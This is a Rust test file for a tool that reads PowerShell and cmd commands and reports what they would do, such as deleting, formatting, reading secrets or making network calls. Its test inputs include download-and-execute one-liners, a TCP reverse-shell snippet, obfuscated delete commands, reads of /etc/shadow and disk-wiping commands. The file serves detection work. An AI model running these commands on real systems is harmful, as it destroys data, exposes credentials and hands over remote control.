//! PowerShell and cmd.

use super::recorder::{check, silent};
use crate::lang::Lang;
use crate::scripts::powershell;

#[test]
fn what_powershell_does_is_found() {
    check(
        Lang::PowerShell,
        &[
            ("Remove-Item -Recurse -Force C:\\x", "Delete C:\\x [recursive] [forced]"),
            ("rm -r -fo /x", "Delete /x [recursive] [forced]"),
            ("ri /x -rec", "Delete /x [recursive]"),
            ("rm -rf /x", "run rm -rf /x"),
            ("REMOVE-ITEM -path '/x' -recurse", "Delete /x [recursive]"),
            ("del ~/x", "Delete /home/ada/x"),
            ("Get-ChildItem /x | Remove-Item -Recurse", "Delete /x/* [recursive]"),
            ("gci /x -r -for -file | clc -for", "Write /x/* =  [emptying]"),
            ("gci /x/ -file | sc -va p", "Write /x/* = p [emptying]"),
            ("(gci /x).FullName | mi -dest /y", "Delete /x/* [moving]"),
            ("gci /x -Filter *.log | ri", "Delete /x/* [narrowed]"),
            ("gci /x | ? { $_.Length } | % FullName | ri", "Delete /x/* [narrowed]"),
            ("gci /x | Out-File /y", "Write /y = /x/names [emptying]"),
            ("gi /x | sort | ri -r", "Delete /x [recursive]"),
            (
                "IEX (New-Object Net.WebClient).DownloadString('http://h/x')",
                "powershell: http://h/x <network>",
            ),
            ("iwr http://h/x | iex", "powershell: http://h/x <network>"),
            ("iex (iwr http://h/x -UseBasicParsing).Content", "powershell: http://h/x <network>"),
            ("Invoke-Expression 'Remove-Item /x'", "Delete /x"),
            ("$a='Remove-'+'Item /x'; iex $a", "Delete /x"),
            ("& ('Remove-'+'Item') /x", "Delete /x"),
            ("iex ('{1}{0}' -f 'Item /x','Remove-')", "Delete /x"),
            (
                "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('UmVtb3ZlLUl0ZW0gL3g=')))",
                "Delete /x",
            ),
            ("iex (-join([char[]](114,105,32,47,120)))", "Delete /x"),
            ("iex ([char]114+[char]105+' /x')", "Delete /x"),
            ("iex -join('x/ ir'[-1..-5])", "Delete /x"),
            ("re`move-it`em /x", "Delete /x"),
            ("'payload' | Out-File /home/user/.bashrc", "Write /home/user/.bashrc = payload [emptying]"),
            ("Set-Content -Path /etc/x -Value p", "Write /etc/x = p [emptying]"),
            ("Get-Content /etc/shadow", "Read /etc/shadow"),
            ("[IO.File]::ReadAllText('/etc/shadow')", "Read /etc/shadow"),
            ("[System.IO.Directory]::Delete('/x',$true)", "Delete /x [recursive]"),
            (
                "Invoke-WebRequest http://h/x -OutFile /tmp/x",
                "Write /tmp/x = http://h/x [emptying] <network>",
            ),
            ("Start-Process rm -ArgumentList '-rf','/x'", "run rm -rf /x"),
            ("Stop-Process -Name x -Force", "Kill Matching(\"x\") [forced] [with SIGKILL]"),
            ("Stop-Computer -Force", "Power power state"),
            ("Restart-Computer", "Power power state"),
            ("Format-Volume -DriveLetter D", "Format device D [irreversible]"),
            ("Clear-Disk -Number 0 -RemoveData", "Format device 0 [irreversible]"),
            ("Set-ExecutionPolicy Bypass -Scope Process", "Disable guard execution policy"),
            ("if (1) { Remove-Item /x }", "Delete /x"),
            ("1..3 | % { Remove-Item /x }", "Delete /x"),
            ("git push --force", "run git push --force"),
            ("gci env:", "Read environment"),
            (
                "$c = New-Object System.Net.Sockets.TCPClient('h',1);$s=$c.GetStream();while(1){$d=x;$r=(iex $d 2>&1 | Out-String)}",
                "Execute shell  [interactive] [remotely controlled] <network>",
            ),
        ],
    );
    assert_eq!(powershell::decode_command("cgBtACAALwB4AA=="), Some("rm /x".to_owned()));
}

#[test]
fn harmless_powershell_says_nothing() {
    silent(
        Lang::PowerShell,
        &[
            "Get-Date",
            "Write-Host 'Remove-Item /x'",
            "$PSVersionTable",
            "# Remove-Item x",
            "Get-Process | Sort-Object CPU",
            "1+1",
            "Get-ChildItem -Recurse *.cs | Select-String foo",
            "Remove-Item /x -WhatIf",
            "$x = 3; $x",
            "Write-Output \"iex $x\"",
            "Test-Path /x",
            "Set-ExecutionPolicy RemoteSigned",
            "<# rm x #> Get-Date",
        ],
    );
}

#[test]
fn what_cmd_does_is_found() {
    check(
        Lang::Cmd,
        &[
            ("del /s /q C:\\x", "Delete C:\\x [recursive] [forced]"),
            ("rd /s /q C:\\x", "Delete C:\\x [recursive] [forced]"),
            ("RMDIR /S C:\\x", "Delete C:\\x [recursive]"),
            ("d^el C:\\x", "Delete C:\\x"),
            ("echo 1 & del C:\\x", "Delete C:\\x"),
            ("dir && erase C:\\x", "Delete C:\\x"),
            ("format D: /q", "Format device D: [irreversible]"),
            ("shutdown /s /t 0", "Power power state"),
            ("reg delete HKLM\\Software\\x /f", "Configure registry key HKLM\\Software\\x [irreversible]"),
            ("taskkill /f /im x.exe", "Kill Matching(\"x.exe\") [forced] [with SIGKILL]"),
            ("cmd /c del C:\\x", "Delete C:\\x"),
            ("for %f in (*) do del %f", "Delete %f"),
            ("echo p > C:\\x", "Write C:\\x = p [emptying]"),
            ("powershell -enc cgBpACAALwB4AA==", "Delete /x"),
            ("git push --force", "run git push --force"),
        ],
    );
    silent(
        Lang::Cmd,
        &[
            "dir",
            "echo del /s",
            "cd x",
            "type nul > nul",
            "rem del C:\\x",
            "set X=1",
            "ver",
            "echo \"a & del b\"",
            "cls",
            "mkdir x",
        ],
    );
}
